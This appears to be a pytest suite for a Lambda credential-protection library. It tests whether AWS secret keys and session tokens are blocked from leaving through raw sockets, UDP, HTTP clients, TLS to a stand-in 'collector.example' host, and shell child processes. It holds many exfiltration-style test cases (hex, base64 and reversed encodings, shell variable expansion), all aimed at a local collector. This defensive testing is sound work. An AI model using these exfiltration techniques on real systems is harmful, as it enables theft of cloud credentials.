"""The function's credentials do not leave below the HTTP clients: raw sends, TLS plaintext, child processes.

A collector on 127.0.0.1 logs every byte it receives; a blocked send leaves it nothing. A child
process that would have run writes a marker file; a blocked one never starts.
"""
from __future__ import annotations

import asyncio
import base64
import os
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import aiohttp
import httpx
import pytest
import requests

from app_protect_lambda import protect
from app_protect_lambda.testing import LambdaContext, apigw_v1_event

from .network_support import TIMEOUT, LocalServer, install_resolver


class RawCollector:
    """A TCP and a UDP listener on 127.0.0.1 that keep every byte they receive."""

    def __init__(self) -> None:
        self.received = bytearray()
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self._udp.settimeout(0.05)
        self.port, self.udp_port = self._tcp.getsockname()[1], self._udp.getsockname()[1]
        self._tcp.settimeout(0.05)
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._accept, daemon=True),
                         threading.Thread(target=self._datagrams, daemon=True)]

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                continue
            threading.Thread(target=self._read, args=(connection,), daemon=True).start()

    def _read(self, connection: socket.socket) -> None:
        connection.settimeout(TIMEOUT)
        with connection:
            while True:
                try:
                    data = connection.recv(65536)
                except OSError:
                    return
                if not data:
                    return
                self.received.extend(data)

    def _datagrams(self) -> None:
        while not self._stop.is_set():
            try:
                self.received.extend(self._udp.recv(65536))
            except OSError:
                continue

    def settle(self) -> bytes:
        self._stop.wait(0.2)
        return bytes(self.received)

    def __enter__(self) -> RawCollector:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(TIMEOUT)
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def collector() -> Iterator[RawCollector]:
    with RawCollector() as running:
        yield running


@pytest.fixture(autouse=True)
def resolver(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    return install_resolver(monkeypatch, {})


def secret() -> str:
    return os.environ["AWS_SECRET_ACCESS_KEY"]


def token() -> str:
    return os.environ["AWS_SESSION_TOKEN"]


def connected(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT)


def _sendall(port: int, data: bytes) -> None:
    with connected(port) as sock:
        sock.sendall(data)


def _send_in_pieces(port: int, data: bytes, size: int) -> None:
    with connected(port) as sock:
        for start in range(0, len(data), size):
            sock.send(data[start:start + size])


def _sendmsg(port: int, data: bytes) -> None:
    with connected(port) as sock:
        sock.sendmsg([b"head,", data])


def _sendto(port: int, data: bytes, udp_port: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(data, ("127.0.0.1", udp_port))


async def _asyncio_stream(port: int, data: bytes) -> None:
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(data)
    await writer.drain()
    writer.close()


def _httpx(port: int, data: bytes) -> None:
    httpx.post(f"http://127.0.0.1:{port}/c", content=data, timeout=0.5)


def _aiohttp(port: int, data: bytes) -> None:
    async def post() -> None:
        async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=0.5)) as session, \
                session.post(f"http://127.0.0.1:{port}/c", data=data) as reply:
            await reply.read()
    asyncio.run(post())


SENDS = {
    "sendall": lambda c, d: _sendall(c.port, d),
    "send, 7 bytes at a time": lambda c, d: _send_in_pieces(c.port, d, 7),
    "send, 1 byte at a time": lambda c, d: _send_in_pieces(c.port, d, 1),
    "sendmsg": lambda c, d: _sendmsg(c.port, d),
    "sendto (UDP)": lambda c, d: _sendto(c.port, d, c.udp_port),
    "asyncio stream": lambda c, d: asyncio.run(_asyncio_stream(c.port, d)),
    "httpx": lambda c, d: _httpx(c.port, d),
    "aiohttp": lambda c, d: _aiohttp(c.port, d),
}

FORMS = {
    "secret key": lambda: f"k={secret()}".encode(),
    "session token": lambda: f"X-Token: {token()}\r\n".encode(),
    "hex": lambda: secret().encode().hex().encode(),
    "base64": lambda: base64.b64encode(f'{{"k": "{secret()}"}}'.encode()),
    "reversed": lambda: secret()[::-1].encode(),
}


def sender(how: str, collector: RawCollector, mode: str = "block"):
    @protect(mode=mode)
    def handler(event, context):
        with suppress(httpx.HTTPError, aiohttp.ClientError, asyncio.TimeoutError):  # the collector answers nothing
            SENDS[how](collector, FORMS[event["queryStringParameters"]["form"]]())
        return {"statusCode": 200}
    return handler


@pytest.mark.parametrize("how", list(SENDS))
def test_credentials_sent_raw_are_blocked_before_a_byte_leaves(how: str, collector: RawCollector, records) -> None:
    handler = sender(how, collector)
    for form in FORMS:
        assert handler(apigw_v1_event(query={"form": form}), LambdaContext())["statusCode"] == 403, form
    received = collector.settle()
    for value in (secret(), token()):
        assert value.encode() not in received and value.encode().hex().encode() not in received
    detections = records.detections()
    assert len(detections) == len(FORMS)
    assert {r["rule"] for r in detections} == {"credential_exfiltration.outbound"}
    assert secret() not in str(records.all()) and token() not in str(records.all())


@pytest.mark.parametrize("how", ["sendall", "send, 7 bytes at a time", "asyncio stream", "sendto (UDP)"])
def test_report_mode_records_each_leak_once(how: str, collector: RawCollector, records) -> None:
    handler = sender(how, collector, mode="report")
    assert handler(apigw_v1_event(query={"form": "secret key"}), LambdaContext())["statusCode"] == 200
    assert secret().encode() in collector.settle()
    assert len(records.detections()) == 1


def test_benign_raw_traffic_passes_unchanged(collector: RawCollector, records) -> None:
    payload = b"".join(bytes(range(256)) for _ in range(256)) + "AWS_SECRET_ACCESS_KEY 東京".encode()

    @protect(mode="block")
    def handler(event, context):
        _sendall(collector.port, payload)
        _send_in_pieces(collector.port, payload[:4096], 13)
        _sendto(collector.port, b"metric:1|c", collector.udp_port)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    received = collector.settle()
    assert len(received) == len(payload) + 4096 + len(b"metric:1|c") and records.detections() == []


def test_sigv4_token_header_and_the_secrets_extension_pass_raw(collector: RawCollector, records,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PARAMETERS_SECRETS_EXTENSION_HTTP_PORT", str(collector.port))
    signed = (f"POST / HTTP/1.1\r\nHost: sqs.local\r\nX-Amz-Security-Token: {token()}\r\n"
              f"Authorization: AWS4-HMAC-SHA256 Credential={os.environ['AWS_ACCESS_KEY_ID']}/x, Signature=ab\r\n"
              "\r\nAction=ListQueues").encode()
    extension = (f"GET /secretsmanager/get?secretId=db HTTP/1.1\r\nHost: localhost\r\n"
                 f"X-Aws-Parameters-Secrets-Token: {token()}\r\n\r\n").encode()

    @protect(mode="block")
    def handler(event, context):
        _sendall(collector.port, signed)
        _send_in_pieces(collector.port, extension, 64)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    assert collector.settle().count(token().encode()) == 2 and records.detections() == []


def test_http_client_requests_are_judged_once(records) -> None:
    """http.client judges the request whole; its socket sends are not searched, nor recorded, again."""
    with LocalServer(body=b"thanks") as server:
        @protect(mode="report")
        def handler(event, context):
            requests.post(f"{server.url}/c", data={"k": secret()}, timeout=TIMEOUT)
            return {"statusCode": 200}

        handler(apigw_v1_event(), LambdaContext())
    assert [r["sink"]["name"] for r in records.detections()] == ["urllib3.connection.HTTPConnection.request"]


def _tls_write(hostname: str, data: bytes) -> None:
    connection = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), ssl.MemoryBIO(), server_hostname=hostname)
    with suppress(ssl.SSLWantReadError):  # no handshake in this test: the hook runs before the write
        connection.write(data)


def test_tls_plaintext_is_judged_by_its_server_name(records) -> None:
    @protect(mode="block")
    def handler(event, context):
        _tls_write(event["queryStringParameters"]["host"], f"k={secret()}".encode())
        return {"statusCode": 200}

    assert handler(apigw_v1_event(query={"host": "collector.example"}), LambdaContext())["statusCode"] == 403
    assert handler(apigw_v1_event(query={"host": "sts.us-east-1.amazonaws.com"}), LambdaContext())["statusCode"] == 200
    [record] = records.detections()
    assert record["sink"]["name"] == "ssl.SSLObject.write" and "collector.example" in record["message"]


# ---------------------------------------------------------------- child processes

CHILDREN = {
    "argv, literal": lambda marker: subprocess.run(["sh", "-c", f"printf %s {secret()} > {marker}"], check=False),
    "argv, base64": lambda marker: subprocess.run(
        ["sh", "-c", f"echo {base64.b64encode(secret().encode()).decode()} > {marker}"], check=False),
    "shell=True, $VAR": lambda marker: subprocess.run(f'echo "$AWS_SECRET_ACCESS_KEY" > {marker}', shell=True,
                                                      check=False),
    "os.system, ${VAR}": lambda marker: os.system(f"echo ${{AWS_SESSION_TOKEN}} > {marker}"),
    "env renamed": lambda marker: subprocess.run(["sh", "-c", f"echo $DATA > {marker}"],
                                                 env={"DATA": secret(), "PATH": os.environ["PATH"]}, check=False),
    "bash -c": lambda marker: subprocess.run(["bash", "-c", f'echo "$AWS_SESSION_TOKEN" > {marker}'], check=False),
    "posix_spawn": lambda marker: os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", f"echo {secret()} > {marker}"],
                                                            dict(os.environ)), 0),
    "Popen, python": lambda marker: subprocess.run(
        [sys.executable, "-c", f"open({str(marker)!r}, 'w').write('x')", token()], check=False),
}


@pytest.mark.parametrize("how", list(CHILDREN))
def test_a_child_given_the_credentials_on_its_command_line_never_starts(how: str, tmp_path: Path, records) -> None:
    marker = tmp_path / "ran"

    @protect(mode="block")
    def handler(event, context):
        CHILDREN[how](marker)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 403
    assert not marker.exists()
    [record] = records.detections()
    assert record["rule"] == "credential_exfiltration.child"
    assert secret() not in str(records.all()) and token() not in str(records.all())


def test_report_mode_records_a_child_once(tmp_path: Path, records) -> None:
    marker = tmp_path / "ran"

    @protect(mode="report")
    def handler(event, context):
        subprocess.run(["sh", "-c", f"echo {secret()} > {marker}"], check=False)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    assert marker.exists() and len(records.detections()) == 1


BENIGN_CHILDREN = {
    "inherits the environment": lambda marker: subprocess.run(
        [sys.executable, "-c", f"import os; open({str(marker)!r}, 'w').write(os.environ['AWS_SECRET_ACCESS_KEY'][:1])"],
        check=False),
    "explicit env with the credentials": lambda marker: subprocess.run(
        ["sh", "-c", f"test -n \"$AWS_ACCESS_KEY_ID\" && echo ok > {marker}"], env=dict(os.environ), check=False),
    "other variables expanded": lambda marker: subprocess.run(f'echo "$HOME $AWS_REGION" > {marker}', shell=True,
                                                              check=False),
    "no shell to expand the variable": lambda marker: subprocess.run(
        [sys.executable, "-c", f"import sys; open({str(marker)!r}, 'w').write(sys.argv[1])", "$AWS_SECRET_ACCESS_KEY"],
        check=False),
    "os.system": lambda marker: os.system(f"echo AWS_SESSION_TOKEN > {marker}"),
}


@pytest.mark.parametrize("how", list(BENIGN_CHILDREN))
def test_benign_children_run(how: str, tmp_path: Path, records) -> None:
    marker = tmp_path / "ran"

    @protect(mode="block")
    def handler(event, context):
        BENIGN_CHILDREN[how](marker)
        return {"statusCode": 200}

    assert handler(apigw_v1_event(), LambdaContext())["statusCode"] == 200
    assert marker.exists() and records.detections() == []
